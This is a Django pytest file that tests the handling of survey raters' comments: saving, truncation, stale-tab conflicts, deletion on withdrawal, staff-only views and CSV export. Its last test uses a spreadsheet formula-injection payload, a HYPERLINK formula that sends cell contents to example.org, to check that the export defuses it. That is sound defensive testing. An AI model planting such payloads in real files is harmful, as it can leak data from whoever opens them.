"""Remarks of raters: saved with the page or on their own, shown to staff, gone with who withdraws."""

import csv
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse

from survey_site.common.errors import GoneError
from survey_site.survey.models import MAX_COMMENT, Assignment
from survey_site.survey.rating.comments import COMMENT_COLUMNS, save_comment
from survey_site.survey.rating.leaving import withdraw_rater
from survey_site.survey.rating.turns import Turn
from tests.factories.accounts import make_user
from tests.factories.batches import NOW, make_batch
from tests.factories.survey import answers_for, make_assignment
from tests.survey_site.survey.people.test_ways_in import enter, url

pytestmark = pytest.mark.django_db
LATER = NOW + timedelta(minutes=5)


@pytest.fixture
def staff():
    client = Client()
    client.force_login(make_user(role="researcher"))
    return client


def stored():
    return list(Assignment.objects.order_by("pk").values_list("comment", flat=True))


def test_a_remark_goes_with_the_form_even_where_a_rating_is_missing():
    batch, client = make_batch(), Client()
    address = enter(client, url("join", batch))
    page = client.post(address, {"comment": " Two texts in a foreign language. "})
    assert page.status_code == 422
    assert stored() == ["Two texts in a foreign language."]
    assert "Two texts in a foreign language." in page.content.decode()
    answers = answers_for(Assignment.objects.get())
    client.post(address, {f"rating-{code}": 3 for code in answers} | {"comment": "A typo in the second."})
    assert stored() == ["A typo in the second."]
    assert Assignment.objects.get().state == "submitted"


def test_a_remark_is_saved_on_its_own_and_taken_back():
    batch, client = make_batch(), Client()
    address = enter(client, url("join", batch))
    assert client.post(f"{address}rate/", {"comment": "cut off"}).json() == {}
    assert stored() == ["cut off"]
    client.post(f"{address}rate/", {"comment": "  "})
    assert stored() == [""]
    assert Assignment.objects.get().commented_at is None


@pytest.mark.parametrize("confirmed", [False, True])
def test_an_older_remark_of_the_same_tab_that_arrives_late_changes_nothing(confirmed):
    held = make_assignment(make_batch())

    def save(text, tab, number):
        save_comment(assignment=held, text=text, turn=Turn(tab, number), now=NOW)
        return stored()

    assert save("first", "a", 10) == ["first"]
    if confirmed:
        assert save("first", "a", 30) == ["first"]
        assert save("late", "a", 20) == ["first"]
    else:
        assert save("second", "a", 20) == ["second"]
        assert save("late", "a", 15) == ["second"]
    assert save("of another tab", "b", 1) == ["of another tab"]
    save_comment(assignment=held, text="without a script", now=NOW)
    assert stored() == ["without a script"]


def test_a_tab_that_shows_an_older_remark_leaves_the_newer_one():
    batch, client = make_batch(), Client()
    address = enter(client, url("join", batch))
    client.post(f"{address}rate/", {"comment": "one line\nanother"})
    page = client.post(address, {"comment": "", "comment_before": ""}).content.decode()
    assert stored() == ["one line\nanother"]
    assert '<input type="hidden" name="comment_before" value="one line\nanother">' in page
    client.post(address, {"comment": "one line\r\nanother", "comment_before": "one line\r\nanother"})
    client.post(address, {"comment": "", "comment_before": "one line\r\nanother"})
    assert stored() == [""]


def test_a_remark_with_many_lines_is_not_cut_by_how_a_form_sends_them():
    batch, client = make_batch(), Client()
    address = enter(client, url("join", batch))
    words = "\n".join(["a line"] * 150)[:MAX_COMMENT]
    client.post(address, {"comment": words.replace("\n", "\r\n"), "comment_before": ""})
    assert stored() == [words.strip()]


def test_a_form_without_the_field_leaves_the_remark():
    batch, client = make_batch(), Client()
    address = enter(client, url("join", batch))
    client.post(f"{address}rate/", {"comment": "cut off"})
    client.post(address, {})
    assert stored() == ["cut off"]


def test_what_is_too_long_is_cut():
    assignment = make_assignment(make_batch())
    save_comment(assignment=assignment, text="é" * (MAX_COMMENT + 9), now=NOW)
    assert stored() == ["é" * MAX_COMMENT]


def test_withdrawing_deletes_remarks_and_none_comes_after():
    assignment = make_assignment(make_batch())
    save_comment(assignment=assignment, text="I am Ada", now=NOW)
    withdraw_rater(rater=assignment.rater, now=LATER)
    assert stored() == [""]
    with pytest.raises(GoneError):
        save_comment(assignment=assignment, text="again", now=LATER)
    assert stored() == [""]


def test_another_persons_questionnaire_takes_no_remark():
    batch = make_batch()
    address = enter(Client(), url("join", batch))
    other = Client()
    enter(other, url("join", batch))
    assert other.post(f"{address}rate/", {"comment": "not mine"}).status_code == 404
    assert stored() == ["", ""]


def test_staff_read_the_newest_first_and_take_them_away(staff):
    batch = make_batch()
    for number, text in enumerate(["first", "second <b>", 'third, "quoted"', "fourth"]):
        save_comment(assignment=make_assignment(batch), text=text, now=NOW + timedelta(minutes=number))
    save_comment(assignment=make_assignment(make_batch()), text="elsewhere", now=NOW)
    monitor = staff.get(batch.get_absolute_url()).content.decode()
    assert "All 4 comments" in monitor
    assert [monitor.find(text) > 0 for text in ("fourth", "third", "second &lt;b&gt;", "first</p>")] == [
        True,
        True,
        True,
        False,
    ]
    page = staff.get(reverse("batches:comments", args=[batch.pk])).content.decode()
    places = [page.find(f">{text}") for text in ("fourth", "third", "second &lt;b&gt;", "first")]
    assert places == sorted(places)
    assert "elsewhere" not in page
    content = b"".join(staff.get(reverse("batches:comments-csv", args=[batch.pk])).streaming_content)
    rows = list(csv.DictReader(content.decode().splitlines()))
    assert [row["comment"] for row in rows] == ["fourth", 'third, "quoted"', "second <b>", "first"]
    assert tuple(rows[0]) == COMMENT_COLUMNS


def test_only_staff_read_remarks():
    batch = make_batch()
    for name in ("comments", "comments-csv"):
        assert Client().get(reverse(f"batches:{name}", args=[batch.pk])).status_code == 302


@pytest.mark.parametrize("first", ["=", "+", "-", "@"])
def test_a_spreadsheet_reads_no_remark_as_a_formula(staff, first):
    batch = make_batch()
    remark = f'{first}HYPERLINK("https://example.org/?"&A1)'
    save_comment(assignment=make_assignment(batch), text=remark, now=NOW)
    save_comment(assignment=make_assignment(batch), text="1 = 1", now=NOW + timedelta(minutes=1))
    content = b"".join(staff.get(reverse("batches:comments-csv", args=[batch.pk])).streaming_content)
    rows = csv.DictReader(content.decode().splitlines())
    assert [row["comment"] for row in rows] == ["1 = 1", f"'{remark}"]
    assert (
        remark.replace('"', "&quot;").replace("&A1", "&amp;A1")
        in staff.get(reverse("batches:comments", args=[batch.pk])).content.decode()
    )
